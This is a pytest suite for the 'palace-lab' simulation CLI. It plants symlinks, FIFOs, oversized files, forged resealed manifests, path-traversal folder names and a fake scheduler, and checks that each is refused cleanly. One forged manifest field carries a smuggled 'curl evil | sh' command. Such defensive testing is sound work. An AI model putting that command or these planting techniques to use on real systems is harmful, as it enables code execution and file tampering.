"""Run directories, round 2 (issue 22): planted symlinks, FIFOs, huge files, forged manifests
and stamps, a Dask address that is no scheduler, and bad command lines.

Every case runs the real CLI under a 300 s timeout (a hang fails the case, it never hangs
the suite; generous, as the suite's workers share the cores and a fresh cache compiles the
engine first): in a subprocess where the case could hang or flood the process or is about
the process boundary, else through cli.main in the test's process (in_process). Each case
asserts its exit code, one line on stderr (no traceback, no
"Exception ignored"), that the victim file outside the folder is unchanged, that nothing
was written outside, and that no file the case planted was deleted.

Manifests are forged the way an attacker who knows the format would: the chunk checksum
and the manifest's own SHA-256 recomputed here with hashlib (docs/RESULTS.md defines it).
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest

import cli
from simcore.core.errors import InputError
from simcore.core.store.manifest import MAX_MANIFEST_BYTES, load_manifest

pytestmark = pytest.mark.slow  # a CLI call per case, a third of them in a subprocess

ROOT = Path(__file__).resolve().parents[1]
TIMEOUT = 300  # a hang detector: a case takes seconds alone, minutes on a shared machine
PLAYERS, GAMES, CHUNK = 4, 200, 50
RUN = ["--players", str(PLAYERS), "--games", str(GAMES), "--seed", "0", "--strategy", "random",
       "--chunk-size", str(CHUNK), "--workers", "1"]  # fmt: skip
SWEEP = ["sweep", "--set", "palace_cost=11,12", "--games", "100", "--chunk-size", "50",
         "--workers", "1", "--strategy", "random", "--out", "S"]  # fmt: skip


# --- the template folders, made once -----------------------------------------------------------


@pytest.fixture(scope="module")
def templates(tmp_path_factory):
    base = tmp_path_factory.mktemp("templates")
    cli.main(["run", *RUN, "--out", str(base / "R")])
    try:  # the sweep writes its report and exits through click's standalone return
        cli.main([*SWEEP[:-1], str(base / "S")])
    except SystemExit as e:
        assert e.code in (0, None)
    return base


def seal(m: dict) -> dict:
    body = {k: v for k, v in m.items() if k != "manifest_sha256"}
    text = json.dumps(body, sort_keys=True, separators=(",", ":"))
    return m | {"manifest_sha256": hashlib.sha256(text.encode()).hexdigest()}


def read_m(run: Path) -> dict:
    return json.loads((run / "manifest.json").read_text())


def write_m(run: Path, m: dict, reseal: bool = True) -> None:
    (run / "manifest.json").write_text(json.dumps(seal(m) if reseal else m, indent=1))


def chunk(run: Path, i: int) -> Path:
    return run / "chunks" / f"chunk-{i:06d}.parquet"


# --- the cases ---------------------------------------------------------------------------------


@dataclass
class Case:
    cls: str  # symlink, special file, size, manifest forgery, stamp, dask, CLI input
    name: str
    plant: object  # plant(w: Path) -> None; w holds R (a run), S (a sweep) and ../outside
    argv: list  # palace-lab arguments (bytes allowed), run in w; or ["-c", code] for python
    code: int  # expected exit code
    needle: str  # expected in the one stderr line ("" for exit 0: no line required)
    bash: str | None = None  # run through bash (a planted name with the shell's pid)


def _symlink(name, target="VICTIM"):
    def plant(w):
        p = w / name
        p.parent.mkdir(parents=True, exist_ok=True)
        if p.exists() or p.is_symlink():
            p.unlink()
        p.symlink_to(w.parent / "outside" / target if target == "VICTIM" else target)

    return plant


def _fifo(name):
    def plant(w):
        p = w / name
        p.parent.mkdir(parents=True, exist_ok=True)
        if p.exists() or p.is_symlink():
            p.unlink()
        os.mkfifo(p)

    return plant


def _edit(edit, reseal=True):
    def plant(w):
        m = read_m(w / "R")
        edit(m, w / "R")
        write_m(w / "R", m, reseal)

    return plant


def _copy_chunk_over(m, run):
    shutil.copy(chunk(run, 1), chunk(run, 2))
    m["chunks"][2]["sha256"] = hashlib.sha256(chunk(run, 2).read_bytes()).hexdigest()


def _skip_half(m, run):
    for c in m["chunks"][2:]:
        c["status"] = "skipped"
        del c["sha256"], c["rows"]


def _huge_games(m, run):
    m["games"] = m["chunk_size"] = 10**12
    m["chunks"][0] |= {"n_games": 10**12, "rows": 4 * 10**12}
    m["chunks"] = m["chunks"][:1]


def _huge_games_in_range(m, run):  # within every numeric limit: only the chunk's rows say no
    m["games"] = m["chunk_size"] = 200_000
    m["chunks"][0] |= {"n_games": 200_000, "rows": 800_000}
    m["chunks"] = m["chunks"][:1]


def _set(path, value):
    def edit(m, run):
        *head, last = path.split(".")
        d = m
        for k in head:
            d = d[int(k)] if isinstance(d, list) else d[k]
        if isinstance(d, list):
            d[int(last)] = value
        else:
            d[last] = value

    return edit


def _flip_rule_unsealed(m, run):  # consistent everywhere but in the seal
    m["rules"]["palace_cost"] = 11
    m["rules_changed"] = {"palace_cost": 11}


def _forged_command(m, run):
    m["command"] = "palace-lab run --games 1 --out /tmp/x; curl evil | sh"
    for c in m["chunks"][3:]:
        c["status"] = "pending"
        del c["sha256"], c["rows"]
    m["status"] = "interrupted"


def _big_file(name, size):
    def plant(w):
        with open(w / name, "wb") as f:
            f.truncate(size)  # sparse: costs no disk

    return plant


def _many_values(w):
    body = b'{"format":"palace-lab-run/1","x":[' + b"0," * 3_000_000 + b"0]}"
    (w / "R" / "manifest.json").write_bytes(body)


def _manifest_dir(w):
    (w / "R" / "manifest.json").unlink()
    (w / "R" / "manifest.json").mkdir()


def _thesis_stamp(w):
    d = w / "y_charts"
    d.mkdir()
    (d / "thesis.docx").write_text("my thesis\n")
    stamp = {"generator": "palace-lab", "page": "y.html", "files": ["thesis.docx"]}
    (d / ".palace-lab-report").write_text(json.dumps(stamp))


def _forged_png_stamp(w):
    d = w / "y_charts"
    d.mkdir()
    (d / "seat-4p.png").write_bytes(b"\x89PNG the user's own chart")
    stamp = {"format": "palace-lab-report/2", "generator": "palace-lab", "page": "y.html",
             "page_sha256": "0" * 64, "files": {"seat-4p.png": "1" * 64}}  # fmt: skip
    (d / ".palace-lab-report").write_text(json.dumps(stamp))


def _meta_tag_page(w):
    (w / "y.html").write_text('<html><head><meta name="generator" content="palace-lab">'
                              "</head><body>my notes</body></html>\n")  # fmt: skip


def _fifo_stamp(w):
    (w / "y_charts").mkdir()
    os.mkfifo(w / "y_charts" / ".palace-lab-report")


def _png_symlink_stamp(w):
    d = w / "y_charts"
    d.mkdir()
    (d / "seat-4p.png").symlink_to(w.parent / "outside" / "VICTIM")
    sha = hashlib.sha256((w.parent / "outside" / "VICTIM").read_bytes()).hexdigest()
    stamp = {"format": "palace-lab-report/2", "generator": "palace-lab", "page": "y.html",
             "page_sha256": "0" * 64, "files": {"seat-4p.png": sha}}  # fmt: skip
    (d / ".palace-lab-report").write_text(json.dumps(stamp))


def _nothing(w):
    pass


def _first_run_broken(w):
    """The sweep saves its plan, then stops at its first run (a damaged manifest), so the
    case shows where the plan went without playing or drawing anything."""
    first = sorted(p.parent for p in (w / "S").glob("*/manifest.json"))[0]
    (first / "manifest.json").write_text("{")


def _lock_fifo_only(w):
    (w / "L").mkdir()
    os.mkfifo(w / "L" / ".lock")


def _run_fifo_in_tune(w):
    (w / "T" / "zz").mkdir(parents=True)
    os.mkfifo(w / "T" / "zz" / "manifest.json")
    (w / "T" / "zy").mkdir()
    (w / "T" / "zy" / "manifest.json").symlink_to("/dev/zero")


def _tune_json_symlink(w):
    (w / "T").mkdir()
    (w / "T" / "tune.json").symlink_to(w.parent / "outside" / "VICTIM")


def _summary(code_line: str) -> list:
    return ["-c", "from pathlib import Path; import sys; " + code_line]


SUMMARY = _summary(
    "from analyses.rundata import load_run; from analyses.summary_cache import summary_of; "
    "from simcore.core.contract.games import get_game; r = load_run(Path('R')); "
    "s = summary_of(r, get_game('maharaja')); print(len(s.rates))"
)
GAMES_ON_DISK = _summary("from jobs.tune import games_on_disk; print(games_on_disk(Path('T')))")
TUNE = ["tune-rules", "--vary", "palace_cost=10..12", "--budget", "3000", "--strategy",
        "random", "--workers", "1", "--out", "T", "--resume"]  # fmt: skip
REPORT_Y = ["report", "R", "--out", "y.html"]

CASES = [
    # symlinks: never written through, never deleted; a planted final name is one line
    Case(
        "symlink",
        "sweep --resume, .plan.json.$$.tmp -> victim",
        _first_run_broken,
        [*SWEEP, "--resume"],
        2,
        "unreadable manifest",
        bash="ln -s ../../outside/VICTIM S/.plan.json.$$.tmp; exec ",
    ),
    Case(
        "symlink",
        "sweep --resume, plan.json -> victim",
        _symlink("S/plan.json"),
        [*SWEEP, "--resume"],
        2,
        "plan.json is a symlink",
    ),
    Case(
        "symlink",
        "run --resume, manifest.json -> victim",
        _symlink("R/manifest.json"),
        ["run", *RUN, "--out", "R", "--resume"],
        2,
        "symlink",
    ),
    Case(
        "symlink",
        "run --resume, .lock -> victim",
        _symlink("R/.lock"),
        ["run", *RUN, "--out", "R", "--resume"],
        2,
        ".lock is a symlink",
    ),
    Case(
        "symlink",
        "report, manifest.json -> /dev/zero",
        _symlink("R/manifest.json", "/dev/zero"),
        REPORT_Y,
        2,
        "symlink",
    ),
    Case(
        "symlink",
        "report, a stamped PNG -> victim",
        _png_symlink_stamp,
        REPORT_Y,
        2,
        "seat-4p.png, which the report did not write",
    ),
    Case(
        "symlink",
        "tune-rules --resume, tune.json -> victim",
        _tune_json_symlink,
        TUNE,
        2,
        "tune.json is a symlink",
    ),
    Case(
        "symlink",
        "summary cache meta.json -> victim",
        _symlink("R/.palace-lab-cache/summary/meta.json"),
        SUMMARY,
        0,
        "",
    ),
    # FIFOs, devices and folders where a file belongs: one line, never a hang
    Case(
        "special file",
        "run --out RUN, .lock a FIFO",
        _fifo("R/.lock"),
        ["run", *RUN, "--out", "R"],
        2,
        "already holds a run",
    ),
    Case(
        "special file",
        "run --out L, only a FIFO .lock in L",
        _lock_fifo_only,
        ["run", *RUN, "--out", "L"],
        2,
        "exists and is not an empty directory",
    ),
    Case(
        "special file",
        "run --resume, .lock a FIFO",
        _fifo("R/.lock"),
        ["run", *RUN, "--out", "R", "--resume"],
        2,
        ".lock is not a regular file",
    ),
    Case("special file", "verify, .lock a FIFO", _fifo("R/.lock"), ["verify", "R"], 0, ""),
    Case(
        "special file",
        "report, manifest.json a FIFO",
        _fifo("R/manifest.json"),
        REPORT_Y,
        2,
        "a FIFO",
    ),
    Case(
        "special file",
        "verify, manifest.json a folder",
        _manifest_dir,
        ["verify", "R"],
        2,
        "a folder",
    ),
    Case(
        "special file",
        "summary cache meta.json a FIFO",
        _fifo("R/.palace-lab-cache/summary/meta.json"),
        SUMMARY,
        0,
        "",
    ),
    Case(
        "special file",
        "report, chart stamp a FIFO",
        _fifo_stamp,
        REPORT_Y,
        2,
        "not a palace-lab chart folder",
    ),
    Case(
        "special file",
        "sweep --resume, plan.json a FIFO",
        _fifo("S/plan.json"),
        [*SWEEP, "--resume"],
        2,
        "plan.json is a FIFO",
    ),
    Case(
        "special file",
        "tune: run manifests a FIFO and /dev/zero",
        _run_fifo_in_tune,
        GAMES_ON_DISK,
        0,
        "",
    ),
    # sizes: refused before reading, parse memory bounded
    Case(
        "size",
        "manifest above the limit (sparse)",
        _big_file("R/manifest.json", MAX_MANIFEST_BYTES + 1),
        REPORT_Y,
        2,
        "larger than",
    ),
    Case(
        "size",
        "manifest of 3,000,000 values",
        _many_values,
        ["verify", "R"],
        2,
        "a manifest of at most 100,000 chunks has fewer",
    ),
    Case(
        "size",
        "plan.json of 2 MiB",
        _big_file("S/plan.json", 2 << 20),
        [*SWEEP, "--resume"],
        2,
        "larger than a plan",
    ),
    # forged manifests (the attacker recomputes every checksum)
    Case(
        "manifest forgery",
        "chunk 1 copied over chunk 2, sha256 and seal updated",
        _edit(_copy_chunk_over),
        REPORT_Y,
        2,
        "chunk-000002.parquet: game ids 50..99",
    ),
    Case(
        "manifest forgery",
        "10^12 games in one chunk",
        _edit(_huge_games),
        REPORT_Y,
        2,
        "games must be an integer from 1 to 10,000,000,000",
    ),
    Case(
        "manifest forgery",
        "200,000 games claimed, one real chunk",
        _edit(_huge_games_in_range),
        REPORT_Y,
        2,
        "chunk-000000.parquet: game ids 0..49",
    ),
    Case(
        "manifest forgery",
        "chunks skipped without a stopping rule",
        _edit(_skip_half),
        REPORT_Y,
        2,
        "no stopping rule",
    ),
    Case(
        "manifest forgery",
        "a rule value changed, seal not updated",
        _edit(_flip_rule_unsealed, reseal=False),
        REPORT_Y,
        2,
        "does not match its manifest_sha256",
    ),
    Case(
        "manifest forgery",
        'rules.first_chooser "x"',
        _edit(_set("rules.first_chooser", "x")),
        REPORT_Y,
        2,
        "first_chooser",
    ),
    Case(
        "manifest forgery",
        "stop_outcome without stopping",
        _edit(_set("stop_outcome", {"reason": "target reached", "games": 100})),
        REPORT_Y,
        2,
        "stop_outcome without a stopping rule",
    ),
    Case(
        "manifest forgery",
        "a lone surrogate in command",
        _edit(_set("command", "palace-lab run \udc80")),
        ["verify", "R"],
        2,
        "command",
    ),
    Case(
        "manifest forgery",
        "an unknown key",
        _edit(_set("rules_changd", {})),
        ["verify", "R"],
        2,
        "unknown key",
    ),
    Case(
        "manifest forgery",
        "a strategy parameter that is no name",
        _edit(_set("strategies.0.params", {"pal\u0007ace": 1})),
        ["verify", "R"],
        2,
        "strategies[0].params",
    ),
    Case(
        "manifest forgery",
        "forged command is not the resume hint",
        _edit(_forged_command),
        ["verify", "R"],
        1,
        "",
    ),
    # chart stamps: only PNGs palace-lab wrote, matched by SHA-256
    Case(
        "stamp",
        "stamp naming thesis.docx",
        _thesis_stamp,
        REPORT_Y,
        2,
        "not a palace-lab chart folder",
    ),
    Case(
        "stamp",
        "stamp with a PNG's wrong SHA-256",
        _forged_png_stamp,
        REPORT_Y,
        2,
        "seat-4p.png, which the report did not write",
    ),
    Case(
        "stamp",
        "a user's page with the generator meta tag",
        _meta_tag_page,
        REPORT_Y,
        2,
        "exists and is not a palace-lab report",
    ),
    # command lines
    Case(
        "CLI input",
        "run --strategy ''",
        _nothing,
        ["run", "--strategy", "", "--out", "N"],
        2,
        "empty strategy name",
    ),
    Case(
        "CLI input",
        "play --strategy ''",
        _nothing,
        ["play", "--strategy", ""],
        2,
        "empty strategy name",
    ),
    Case(
        "CLI input",
        "weighted:palace=1:palace=2",
        _nothing,
        ["run", "--strategy", "weighted:palace=1:palace=2", "--out", "N"],
        2,
        "given twice",
    ),
    Case(
        "CLI input",
        "weighted:char_noise=-5",
        _nothing,
        ["run", "--strategy", "weighted:char_noise=-5", "--out", "N"],
        2,
        "outside its range",
    ),
    Case(
        "CLI input",
        "run --set twice",
        _nothing,
        ["run", "--set", "palace_cost=11", "--set", "palace_cost=12", "--out", "N"],
        2,
        "--set palace_cost is given twice",
    ),
    Case(
        "CLI input",
        "play --set twice",
        _nothing,
        ["play", "--set", "palace_cost=11", "--set", "palace_cost=12"],
        2,
        "given twice",
    ),
    Case(
        "CLI input",
        "study --out o.html --report o.html",
        _nothing,
        ["study", "--out", "o.html", "--report", "o.html"],
        2,
        "where --out o.html goes",
    ),
    Case(
        "CLI input",
        "study --report inside its own chart folder",
        _nothing,
        ["study", "--out", "o_charts/x", "--report", "o.html"],
        2,
        "where --out",
    ),
    Case(
        "CLI input",
        "run --out, a non-UTF-8 name",
        _nothing,
        [b"run", b"--out", b"N\xff\xfe"],
        2,
        "not valid UTF-8",
    ),
    Case(
        "CLI input",
        "report --out, a non-UTF-8 name",
        _nothing,
        [b"report", b"R", b"--out", b"y\xff.html"],
        2,
        "not valid UTF-8",
    ),
]


def _tree(root: Path) -> dict:
    out = {}
    for p in sorted(root.rglob("*")):
        st = p.lstat()
        out[str(p.relative_to(root))] = (st.st_mode, 0 if p.is_dir() else st.st_size)
    return out


def _env() -> dict:
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    env.setdefault("PALACE_LAB_CACHE", str(ROOT / ".cache" / "palace-lab"))
    return env


def in_process(case: Case) -> bool:
    """Whether the case can run through cli.main in this process: not one that could hang
    or flood it (a FIFO, a device, a folder where a file belongs: "special file", /dev/zero),
    nor one about the process boundary (bytes on the command line, a shell, python -c)."""
    boundary = case.bash is not None or case.argv[0] == "-c"
    return not (boundary or case.cls == "special file" or "/dev/zero" in case.name
                or any(isinstance(a, bytes) for a in case.argv))  # fmt: skip


def run_in_process(argv, cwd: Path, capsys, monkeypatch):
    """cli.main in cwd, under the same hang detector: (exit code, stdout, stderr)."""
    monkeypatch.chdir(cwd)

    def hung(*_):
        raise TimeoutError(f"hung: no answer within {TIMEOUT} s")

    old = signal.signal(signal.SIGALRM, hung)
    signal.alarm(TIMEOUT)
    code = 0
    try:
        cli.main([str(a) for a in argv])
    except SystemExit as e:
        code = e.code or 0
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)
    out = capsys.readouterr()
    return code, out.out, out.err


def run_case(argv, cwd: Path, bash: str | None = None):
    if argv and argv[0] == "-c":
        cmd = [sys.executable, *argv]
    else:
        cmd = [os.fsencode(sys.executable), b"-m", b"cli", *map(os.fsencode, argv)]
    if bash is not None:
        cmd = ["bash", "-c", bash + " ".join(map(_quote, cmd))]
    try:
        p = subprocess.run(cmd, cwd=cwd, env=_env(), capture_output=True, timeout=TIMEOUT,
                           stdin=subprocess.DEVNULL)  # fmt: skip
    except subprocess.TimeoutExpired:
        pytest.fail(f"hung: no answer within {TIMEOUT} s")
    return p.returncode, p.stdout.decode(errors="replace"), p.stderr.decode(errors="replace")


def _quote(a) -> str:
    import shlex

    return shlex.quote(os.fsdecode(a))


def _lines(err: str) -> list[str]:
    """stderr without the progress log of a set of runs ("[1/2] palace_cost=11: ...")."""
    return [x for x in err.splitlines() if not re.match(r"\[\d+/\d+\] ", x)]


@pytest.mark.parametrize("case", CASES, ids=[f"{c.cls}: {c.name}" for c in CASES])
def test_planted_case(templates, tmp_path, case, capsys, monkeypatch):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "VICTIM").write_text("the user's file\n")
    w = tmp_path / "w"
    w.mkdir()
    for name in ("R", "S"):
        shutil.copytree(templates / name, w / name, symlinks=True)
    case.plant(w)
    before_out, before = _tree(outside), _tree(w)
    if in_process(case):  # (seconds less each than a fresh interpreter that loads numba)
        code, out, err = run_in_process(case.argv, w, capsys, monkeypatch)
    else:
        code, out, err = run_case(case.argv, w, case.bash)
    assert "Traceback" not in err and "Exception ignored" not in err, err
    assert code == case.code, (code, err[-2000:])
    if case.needle:
        lines = _lines(err)
        assert len(lines) == 1, err  # exactly one line
        assert case.needle in lines[0], lines[0]
    assert _tree(outside) == before_out, "something was written outside the folder"
    assert (outside / "VICTIM").read_text() == "the user's file\n"
    after = _tree(w)
    gone = [p for p in before if p not in after]
    assert not gone, f"deleted: {gone}"
    for p, (mode, _) in before.items():  # a planted file is never replaced by another kind
        if p in after and not p.endswith("manifest.json") and not p.endswith("plan.json"):
            assert after[p][0] == mode or os.path.isdir(w / p), p
    if case.name.startswith("forged command"):
        assert "curl" not in out and "palace-lab run --game maharaja" in out, out
    if case.name.startswith("sweep --resume, .plan.json"):
        assert not (w / "S" / "plan.json").is_symlink() and (w / "S" / "plan.json").is_file()
        assert any(p.startswith("S/.plan.json.") for p in after)  # the planted link, kept


def test_the_suite_covers_every_class():
    counts: dict[str, int] = {}
    for c in CASES:
        counts[c.cls] = counts.get(c.cls, 0) + 1
    assert set(counts) == {
        "symlink",
        "special file",
        "size",
        "manifest forgery",
        "stamp",
        "CLI input",
    }  # fmt: skip  (dask: the tests below)
    assert all(n >= 3 for n in counts.values()), counts


# --- a resume replays the forged chunk, naming it ------------------------------------------------


def test_resume_replays_a_duplicated_chunk_naming_it(templates, tmp_path):
    w = tmp_path / "w"
    shutil.copytree(templates / "R", w / "R", symlinks=True)
    _edit(_copy_chunk_over)(w)
    code, _, err = run_case(["run", *RUN, "--out", "R", "--resume"], w)
    assert code == 0, err
    assert "chunk-000002: game ids 50..99, the manifest says 100..149, replaying" in err
    assert chunk(w / "R", 2).read_bytes() == chunk(templates / "R", 2).read_bytes()
    code, out, _ = run_case(["verify", "R"], w)
    assert code == 0 and "whole" in out


# --- every bit flip of a sealed manifest is refused ---------------------------------------------


def test_every_bit_flip_in_the_manifest_is_refused(templates, tmp_path):
    run = tmp_path / "R"
    shutil.copytree(templates / "R", run, symlinks=True)
    good = (run / "manifest.json").read_bytes()
    rng = random.Random(22)
    for _ in range(40):
        i, bit = rng.randrange(len(good)), 1 << rng.randrange(8)
        bad = bytearray(good)
        bad[i] ^= bit
        (run / "manifest.json").write_bytes(bytes(bad))
        with pytest.raises(InputError):
            load_manifest(run)
    (run / "manifest.json").write_bytes(good)
    assert load_manifest(run)["games"] == GAMES


# --- Dask: an address that answers but is no scheduler ---------------------------------------


class _Http(BaseHTTPRequestHandler):
    def do_GET(self):  # pragma: no cover - the client never sends a request
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):
        pass


def _junk_server(sock: socket.socket) -> None:
    while True:
        try:
            conn, _ = sock.accept()
        except OSError:
            return
        conn.sendall(b"SSH-2.0-OpenSSH_9.6\r\n" * 4)
        conn.close()


@pytest.mark.parametrize("kind", ["http", "junk", "closed"])
def test_a_dask_address_that_is_no_scheduler_is_one_line(tmp_path, kind):
    stop = None
    if kind == "http":
        server = HTTPServer(("127.0.0.1", 0), _Http)
        port = server.server_address[1]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        stop = server.shutdown
    else:
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
        if kind == "junk":
            sock.listen(4)
            threading.Thread(target=_junk_server, args=(sock,), daemon=True).start()
        stop = sock.close
    try:
        code, _, err = run_case(["run", *RUN, "--executor", "dask", "--scheduler",
                                 f"tcp://127.0.0.1:{port}", "--scheduler-timeout", "3",
                                 "--out", "N"], tmp_path)  # fmt: skip
    finally:
        if kind != "closed":
            stop()
        else:
            stop()
    assert code == 2, err
    assert len(err.splitlines()) == 1 and "Exception ignored" not in err, err
    want = "cannot connect" if kind == "closed" else "answers, but is not a Dask scheduler"
    assert want in err, err
    assert not (tmp_path / "N").exists()


def test_scheduler_timeout_must_be_positive(tmp_path):
    code, _, err = run_case(["run", *RUN, "--executor", "dask", "--scheduler",
                             "tcp://127.0.0.1:9", "--scheduler-timeout", "0", "--out", "N"],
                            tmp_path)  # fmt: skip
    assert code == 2 and len(err.splitlines()) == 1 and "--scheduler-timeout" in err, err


# --- a sweep's full disk names the sweep ----------------------------------------------------------


def test_a_sweeps_full_disk_hint_names_the_sweep(tmp_path, capsys, monkeypatch):
    import errno

    from simcore.core.store import chunk_store
    from tests.cli_run import run_cli

    def full(fd, data):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(chunk_store, "_write_all", full)
    monkeypatch.chdir(tmp_path)
    code, _, err = run_cli(capsys, *SWEEP)
    lines = [x for x in err.splitlines() if x.startswith("palace-lab: error")]
    assert code == 1 and len(lines) == 1, err
    assert "to resume: palace-lab sweep --set palace_cost=11,12" in lines[0]
    assert lines[0].endswith("--resume") and "palace-lab run" not in lines[0]


# --- the parse of the largest acceptable manifest is bounded --------------------------------

WORST = """
import resource, sys
from simcore.core.store.manifest import (
    MAX_CONTAINERS, MAX_ELEMENTS, MAX_MANIFEST_BYTES, parse_bounded)
from simcore.core.errors import InputError
n_ct = MAX_CONTAINERS - 100
n_el = MAX_ELEMENTS - n_ct - 1_000  # the objects are separated by commas too
body = b"".join([b'{"x":[', b",".join(b'"%d"' % (10**6 + i) for i in range(n_el)), b'],"y":[',
                 b",".join([b'{"ab":1.5}'] * n_ct), b'],"z":"'])
body += b"a" * (MAX_MANIFEST_BYTES - len(body) - 2) + b'"}'
assert len(body) <= MAX_MANIFEST_BYTES
base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
m = parse_bounded(body, "worst")
assert len(m["x"]) == n_el
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) // 1024)
"""


def test_the_largest_acceptable_manifest_parses_in_bounded_memory(tmp_path):
    """Within the size limit and the counts, the costliest content (distinct strings, a
    float in each of 110,000 objects, a long string) parses in a bounded amount of memory:
    by hand, 1.3 M values x ~60 bytes + 110,000 objects x ~250 bytes + the bytes and
    their decoded text (2 x 33 MiB) ~ 0.2 GB; the test allows twice that."""
    code, out, err = run_case(["-c", WORST], tmp_path)
    assert code == 0, err
    assert int(out.split()[-1]) < 400, out  # MiB above the baseline


def test_a_manifest_one_count_above_the_bounds_is_refused_unparsed():
    from simcore.core.store.manifest import MAX_CONTAINERS, MAX_ELEMENTS, parse_bounded

    with pytest.raises(InputError, match="objects or lists"):
        parse_bounded(b"[" + b"{}," * MAX_CONTAINERS + b"{}]", "m")
    with pytest.raises(InputError, match="objects or lists"):
        parse_bounded(b"[" + b"0," * (MAX_ELEMENTS + 1) + b"0]", "m")


# --- every writer: a symlink at the old predictable temporary name is never followed ------------


def _writers(tmp: Path):
    from jobs.plans import save_json
    from simcore.core.store import manifest as mf
    from simcore.core.store.chunk_store import write_chunk
    from simcore.core.store.safe_files import write_atomic

    (tmp / "chunks").mkdir()
    return {
        "plan.json": lambda: save_json(tmp / "plan.json", {"a": 1}),
        "best.toml": lambda: write_atomic(tmp / "best.toml", b"palace_cost = 11\n"),
        "manifest.json": lambda: mf.save_manifest(tmp, {"format": "x"}),
        "chunks/chunk-000000.parquet": lambda: write_chunk(tmp, 0, b"PAR1"),
    }


@pytest.mark.parametrize("name", ["plan.json", "best.toml", "manifest.json",
                                  "chunks/chunk-000000.parquet"])  # fmt: skip
def test_planted_temporary_names_are_never_followed(tmp_path, name):
    victim = tmp_path / "VICTIM"
    victim.write_text("the user's file\n")
    run = tmp_path / "run"
    run.mkdir()
    write = _writers(run)[name]
    target = run / name
    old_names = [f".{target.name}.{os.getpid()}.tmp", f".tmp-{target.name}.{os.getpid()}"]
    for n in old_names:  # the names earlier versions used
        (target.parent / n).symlink_to(victim)
    write()
    assert victim.read_text() == "the user's file\n"
    assert target.is_file() and not target.is_symlink()
    assert all((target.parent / n).is_symlink() for n in old_names)  # left where they were
    target.unlink()
    target.symlink_to(victim)  # a planted final name: refused, not replaced, not followed
    with pytest.raises(InputError, match="is a symlink, not a file palace-lab wrote"):
        write()
    assert target.is_symlink() and victim.read_text() == "the user's file\n"


@pytest.mark.parametrize("folder", ["../outside", "/etc", "..", ".hidden", "a/../../b", 7])
def test_folder_names_read_from_a_schedule_stay_inside(tmp_path, folder):
    from analyses.tournament import load_games

    (tmp_path / "tournament.json").write_text(json.dumps(
        {"strategies": ["a", "b"], "players": 2, "tables": [{"folder": folder, "seats": [0, 1]}]}
    ))  # fmt: skip
    with pytest.raises(InputError, match="is not a folder inside"):
        load_games(tmp_path)
